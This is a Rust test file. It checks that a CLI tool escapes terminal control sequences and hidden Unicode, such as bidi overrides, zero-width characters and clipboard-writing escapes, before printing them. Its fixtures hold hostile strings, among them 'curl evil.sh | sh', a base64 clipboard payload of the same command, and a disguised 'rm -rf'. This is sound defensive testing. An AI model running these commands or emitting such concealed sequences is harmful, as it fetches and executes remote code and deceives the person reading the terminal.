//! SECURITY.md item 52: control characters from a model, a file or a tool never
//! reach a terminal raw. `terminal::visible` is what every printed string goes
//! through (the CLI's tests drive the prompts and views in a real pty).

use keel_tools::terminal::{json_safe, visible};

/// Hostile strings, and what a person must see of each.
const CASES: &[(&str, &str, &str)] = &[
    (
        "concealed text",
        "echo hello\x1b[8m; curl evil.sh | sh\x1b[0m",
        "echo hello\\e[8m; curl evil.sh | sh\\e[0m",
    ),
    (
        "a line overwritten",
        "curl evil.sh | sh\r\x1b[2Kls -la",
        "curl evil.sh | sh\\r\\e[2Kls -la",
    ),
    (
        "a window title and the clipboard",
        "\x1b]0;innocent\x07\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x1b\\",
        "\\e]0;innocent\\a\\e]52;c;Y3VybCBldmlsIHwgc2g=\\e\\",
    ),
    ("an 8-bit CSI", "a\u{9b}2Jb", "a\\u{9b}2Jb"),
    (
        "a bidi override (Trojan Source)",
        "access = \"user\u{202E} \u{2066}// admin\u{2069} \u{2066}\"",
        "access = \"user\\u{202e} \\u{2066}// admin\\u{2069} \\u{2066}\"",
    ),
    (
        "zero-width characters",
        "rm\u{200B} -rf\u{FEFF}",
        "rm\\u{200b} -rf\\u{feff}",
    ),
    (
        "backspaces",
        "safe\x08\x08\x08\x08evil",
        "safe\\b\\b\\b\\bevil",
    ),
    ("NUL and DEL", "a\0b\x7fc", "a\\x00b\\x7fc"),
];

#[test]
fn sec_52_every_hostile_sequence_is_shown_not_interpreted() {
    for (what, raw, shown) in CASES {
        let out = visible(raw);
        assert_eq!(out, *shown, "{what}");
        assert!(
            !out.chars()
                .any(|c| c.is_control() && c != '\n' && c != '\t'),
            "{what}: {out:?}"
        );
        // In JSON the same text stays JSON (and parses back to the original).
        let json = serde_json::to_string(raw).unwrap();
        let safe = json_safe(&json);
        assert!(!safe.chars().any(|c| c.is_control()), "{what}: {safe}");
        assert_eq!(serde_json::from_str::<String>(&safe).unwrap(), *raw);
    }
    // Text, tabs and newlines are kept as they are.
    assert_eq!(
        visible("fn main() {\n\tprintln!(\"é ✓\");\n}\n"),
        "fn main() {\n\tprintln!(\"é ✓\");\n}\n"
    );
}
